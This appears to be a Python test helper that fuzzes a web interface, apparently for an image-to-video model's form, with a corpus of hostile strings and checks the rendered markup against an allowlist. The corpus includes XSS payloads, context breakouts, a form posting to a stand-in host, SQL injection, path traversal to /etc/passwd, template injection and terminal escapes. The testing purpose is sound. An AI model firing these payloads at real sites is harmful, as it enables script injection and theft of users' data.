"""Text that would like to be more than text, and how to see whether it was.

Whatever a string brings in when it is taken for markup betrays itself: an element of class `pwned`, a script
that sets `window.__pwned`, or a request to the host `pwned.invalid`.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

MARK, HOST = "pwned", "pwned.invalid"
RUN = "window.__pwned=1"
_HALVES = re.compile("[\ud800-\udfff]")
_CONTROLS = re.compile(r"[\x00-\x1f\x7f-\x9f\ufffd\ufffe\uffff]")

CORPUS: tuple[str, ...] = (
    # Elements that run, load, or take over what follows
    f"<script class=pwned>{RUN}</script>",
    f"<ScRiPt class=pwned src=//{HOST}/x.js></sCrIpT>",
    f"<img class=pwned src=x onerror={RUN}>",
    f'<img class="pwned" src="https://{HOST}/track.gif" alt="">',
    f"<svg class=pwned onload={RUN}><circle r=9/></svg>",
    f"<svg class=pwned><script>{RUN}</script></svg>",
    f"<svg class=pwned><a xlink:href='javascript:{RUN}'><text>go</text></a></svg>",
    f"<svg class=pwned><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<math class=pwned><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    f"<math class=pwned><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<iframe class=pwned srcdoc='<script>parent.{RUN[7:]}</script>'></iframe>",
    f"<iframe class=pwned src='javascript:parent.{RUN[7:]}'></iframe>",
    f"<object class=pwned data='https://{HOST}/o.swf'></object><embed class=pwned src=//{HOST}/e>",
    f"<video class=pwned src=//{HOST}/v.mp4 onerror={RUN} autoplay></video>",
    f"<audio class=pwned src=x onerror={RUN}>",
    f"<details class=pwned open ontoggle={RUN}>more</details>",
    f"<body class=pwned onload={RUN}>",
    f"<input class=pwned autofocus onfocus={RUN}>",
    f"<button class=pwned autofocus onfocus={RUN} formaction='javascript:{RUN}'>Generate</button>",
    f"<form class=pwned action='https://{HOST}/steal'><input name=key></form>",
    f"<a class=pwned href='javascript:{RUN}'>click here</a>",
    f"<a class=pwned href='data:text/html,<script>opener.{RUN[7:]}</script>'>open</a>",
    f"<base class=pwned href='https://{HOST}/'>",
    f"<link class=pwned rel=stylesheet href='https://{HOST}/s.css'>",
    f"<meta class=pwned http-equiv=refresh content='0;url=https://{HOST}/'>",
    f"<marquee class=pwned onstart={RUN}>wheee</marquee>",
    f"<template class=pwned><script>{RUN}</script></template>",
    f"<style class=pwned>@import 'https://{HOST}/s.css'; body{{display:none}}</style>",
    # Ways out of whatever is around it
    f"</textarea><script class=pwned>{RUN}</script>",
    f"</style><script class=pwned>{RUN}</script>",
    f"</title></script><script class=pwned>{RUN}</script>",
    f"--><script class=pwned>{RUN}</script><!--",
    f"--!><img class=pwned src=x onerror={RUN}>",
    f"]]><img class=pwned src=x onerror={RUN}>",
    f"</td></tr></table></div></div></div><img class=pwned src=x onerror={RUN}>",
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" class="pwned" x="',
    f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' class='pwned' x='",
    f"` onmouseover=`{RUN}` class=`pwned`",
    f'x" style="background:url(\'https://{HOST}/bg.png\')" class="pwned',
    f"red;background:url(https://{HOST}/c.png);position:fixed;inset:0",
    f"</span ><img/class=pwned/src=x/onerror={RUN}//",
    f"<<img class=pwned src=x onerror={RUN}>",
    f"<img class=pwned src=x onerror\n=\n{RUN}>",
    # Text that something later might decode
    f"&lt;img class=pwned src=x onerror={RUN}&gt;",
    f"&#60;img class=pwned src=x onerror={RUN}&#62;",
    f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    f"%3Cimg%20class=pwned%20src=x%20onerror={RUN}%3E",
    f"\\u003cimg class=pwned src=x onerror={RUN}\\u003e",
    f"\N{FULLWIDTH LESS-THAN SIGN}img class=pwned src=x onerror={RUN}\N{FULLWIDTH GREATER-THAN SIGN}",
    # Addresses
    f"javascript:{RUN}",
    f"JaVa\tScRiPt:{RUN}//https://seen.invalid/a.png",
    f"data:text/html,<script class=pwned>{RUN}</script>",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    f'https://seen.invalid/a.png" onerror="{RUN}" class="pwned',
    f"https://seen.invalid/a.png?'><script class=pwned>{RUN}</script>",
    f"//{HOST}/a.png",
    # Other languages a page may speak
    f"[click](javascript:{RUN}) ![x](https://{HOST}/m.png) **bold** `code`",
    f"$$\\href{{javascript:{RUN}}}{{click}}$$ and $\\class{{pwned}}{{x}}$",
    "from $5 to $10, or \\(x^2\\) and \\[y_1\\]",
    f"{{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}} <%= 7*7 %> {{% raw %}} #{{7*7}}",
    "%s %d {0} {prompt} %(key)s",
    "'; DROP TABLE jobs; --",
    "../../../../etc/passwd",
    "~nobody-at-all/picture.png",
    # Letters that are not what they seem
    "half a pair \ud83d here",
    "the other \udca9 half",
    "null \x00 byte",
    "\x1b[31mred\x1b[0m \x1b]8;;https://pwned.invalid\x07link\x1b]8;;\x07 \x1b[2J",
    "back\x08\x08\x08space and bell\x07",
    "photo \u202egnp.exe",
    "\u2066isolated\u2069 \u200bzero\u200bwidth \ufeffmark",
    "line one\nline two\r\nline three\u2028four\u2029five",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034dalgo",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \u0645\u0631\u062d\u0628\u0627 \u4f60\u597d",
    "  leading and trailing  ",
    "a" * 30_000,
    f"<b class=pwned>{'nested ' * 400}</b>",
)
"""At least fifty, told apart by their place."""

# What somebody can ask for: a prompt with half a character is refused before it is sent.
PROMPTS = tuple(text[:2000] for text in CORPUS if not _HALVES.search(text) and text.strip())


def seen(text: str) -> str:
    """`text` as a page gives it back: one line, without what can not be seen."""
    return " ".join(_CONTROLS.sub(" ", _HALVES.sub(" ", text)).split())


def opening(text: str, length: int = 36) -> str:
    """The beginning of a text, as much as every place shows."""
    return seen(text)[:length].strip()


def filled(text: str) -> dict[str, Any]:
    """Values for a form of `kling-3-pro-image2video`: the text wherever one goes, once where none does."""
    return {
        "prompt": text,
        "start_image_url": text,
        "duration": text,
        "aspect_ratio": text,
        "cfg_scale": text,
        "generate_audio": text,
        "elements": [{"frontal_image_url": text, "reference_image_urls": [text]}, text],
        "voice_ids": [text],
        "multi_prompt": [{"prompt": text, "duration": text}, {text: text}],
        text: text,
    }


def named_files(picture: Path) -> Iterator[Path]:
    """Copies of a picture, one for each text that this system can name a file by."""
    data = picture.read_bytes()
    for text in CORPUS:
        path = picture.with_name(f"{text.replace('/', '_')[:80]}.png")
        try:
            path.write_bytes(data)
        except (OSError, ValueError):
            continue
        yield path


class _Reader(HTMLParser):
    """Reads markup as a browser does, and keeps what it finds."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.words: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    def handle_comment(self, data: str) -> None:
        self.found.append(("!--", {"text": data}))

    def handle_decl(self, decl: str) -> None:
        self.found.append((f"!{decl}", {}))

    def handle_pi(self, data: str) -> None:
        self.found.append((f"?{data}", {}))


TAGS = frozenset(
    (
        *(
            "a",
            "b",
            "br",
            "caption",
            "code",
            "details",
            "div",
            "figcaption",
            "figure",
            "h3",
            "h4",
            "hr",
            "img",
        ),
        *("li", "ol", "p", "pre", "small", "span", "style", "summary", "table", "tbody", "td", "th", "thead"),
        *("tr", "ul", "video"),
    )
)
ATTRIBUTES = frozenset(
    (
        *("alt", "class", "colspan", "controls", "height", "href", "loading", "muted", "open", "playsinline"),
        *("poster", "preload", "referrerpolicy", "rel", "role", "scope", "src", "style", "target", "title"),
        *("width",),
    )
)
_ADDRESS = re.compile(r"(?i)data:(image|video)/(png|jpeg|webp|mp4);base64,[\w+/=]+\Z|https?://")
_STYLE = re.compile(r"(?i)url\(|expression|@import|javascript|\\")


def strangers(markup: str) -> Iterator[str]:
    """What does not belong into markup of ours: foreign elements and attributes, addresses that act."""
    reader = _Reader()
    reader.feed(markup)
    reader.close()
    for tag, attributes in reader.found:
        if tag not in TAGS:
            yield f"<{tag}>"
        for name, value in attributes.items():
            if name not in ATTRIBUTES and not name.startswith("aria-"):
                yield f"<{tag} {name}>"
            if name in ("href", "src", "poster") and not _harmless(value or ""):
                yield f"<{tag} {name}={value!r}>"
            if name == "style" and _STYLE.search(value or ""):
                yield f"<{tag} style={value!r}>"
            if name in ("class", "id") and MARK in (value or "").split():
                yield f"<{tag} {name}={value!r}>"


def words(markup: str) -> str:
    """The text of markup, and of the attributes that are read out, as a page would give it back."""
    reader = _Reader()
    reader.feed(markup)
    reader.close()
    said = [attributes.get("title") or "" for _, attributes in reader.found]
    return seen("".join(reader.words)) + " " + seen(" ".join(said))


def _harmless(address: str) -> bool:
    """An address of a picture, a page, or a file by its path."""
    if _ADDRESS.match(address):
        return True
    return bool(address) and ":" not in address.partition("/")[0] and not address.startswith(("//", "\\"))
